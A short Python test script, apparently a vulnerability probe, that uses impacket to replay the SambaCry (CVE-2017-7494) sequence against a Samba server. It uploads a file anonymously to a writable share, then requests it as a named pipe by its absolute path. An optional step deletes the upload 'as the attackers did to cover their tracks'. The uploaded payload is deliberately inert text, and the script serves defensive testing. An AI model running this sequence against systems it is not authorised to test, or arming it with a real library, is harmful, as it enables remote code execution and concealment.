#!/usr/bin/python3
"""The SambaCry (CVE-2017-7494) sequence, for tests: upload a file named like a module to the
writable share, then ask IPC$ for a "pipe" by an absolute server path -- once wrong, once right.
The file is text, not an ELF: even a vulnerable smbd could not load it, and a patched one refuses.

With `erase`, it then deletes the uploaded file, as the attackers did to cover their tracks.

usage: sambacry_probe.py HOST PORT SHARE_DIR [smb1] [erase]
"""
import io
import sys

from impacket.smbconnection import SMB_DIALECT, SMBConnection

host, port, share_dir = sys.argv[1], int(sys.argv[2]), sys.argv[3]
# The classic exploits speak SMB1; impacket prefers SMB2/3 unless told.
dialect = SMB_DIALECT if 'smb1' in sys.argv[4:] else None
conn = SMBConnection(host, host, sess_port=port, preferredDialect=dialect)
conn.login('', '')
conn.putFile('share', 'libmitsu_probe.so', io.BytesIO(b'not a shared object\n').read)
for path in ['/wrong/place/libmitsu_probe.so', share_dir + '/libmitsu_probe.so']:
    ipc = conn.connectTree('IPC$')
    try:
        conn.openFile(ipc, path)
        print('opened', path)
    except Exception as error:  # a patched smbd answers OBJECT_NAME_NOT_FOUND
        print('refused', path, error)
if 'erase' in sys.argv[4:]:
    conn.deleteFile('share', 'libmitsu_probe.so')
    print('erased libmitsu_probe.so')
conn.logoff()
